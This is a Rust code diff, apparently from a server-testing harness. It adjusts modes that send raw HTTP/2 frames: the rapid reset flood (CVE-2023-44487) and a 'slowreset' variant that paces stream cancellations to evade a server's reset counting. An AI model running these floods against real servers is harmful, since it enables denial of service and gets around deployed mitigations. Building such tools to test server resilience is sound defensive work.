@@ -893,19 +893,9 @@ fn h2_raw(addr: &str, mode: &str) -> anyhow::Result<()> {
             // HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled
             // at once, each costing the server work and none counting against
             // its concurrent stream limit.
-            "rapidreset" => {
-                for stream in (1..2000u32).step_by(2) {
-                    sent.extend(raw_h2::get(stream, addr, "/reset", true));
-                    sent.extend(raw_h2::frame(
-                        raw_h2::RST_STREAM,
-                        0,
-                        stream,
-                        &8u32.to_be_bytes(),
-                    ));
-                }
-            }
+            "rapidreset" => sent.extend(raw_h2::rapid_reset(addr, 1000)),
             // Rapid reset paced to slip past a server's count of streams reset
-            // before it took them up: each stream is cancelled only once 16
+            // before it took them up: each stream is cancelled only once 100
             // more are open, while its answer is still on the way (the
             // endpoint is asked to wait 10 s).
             "slowreset" => {
@@ -913,9 +903,9 @@ fn h2_raw(addr: &str, mode: &str) -> anyhow::Result<()> {
                 sent.clear();
                 for stream in (1..4000u32).step_by(2) {
                     let mut pair = raw_h2::get(stream, addr, "/reset?delay=10000", true);
-                    if stream > 32 {
-                        let cancel = 8u32.to_be_bytes(); // CANCEL
-                        pair.extend(raw_h2::frame(raw_h2::RST_STREAM, 0, stream - 32, &cancel));
+                    if stream > 200 {
+                        let cancel = raw_h2::CANCEL.to_be_bytes();
+                        pair.extend(raw_h2::frame(raw_h2::RST_STREAM, 0, stream - 200, &cancel));
                     }
                     if let Err(e) = tcp.write_all(&pair).await {
                         println!("write_error={e}");
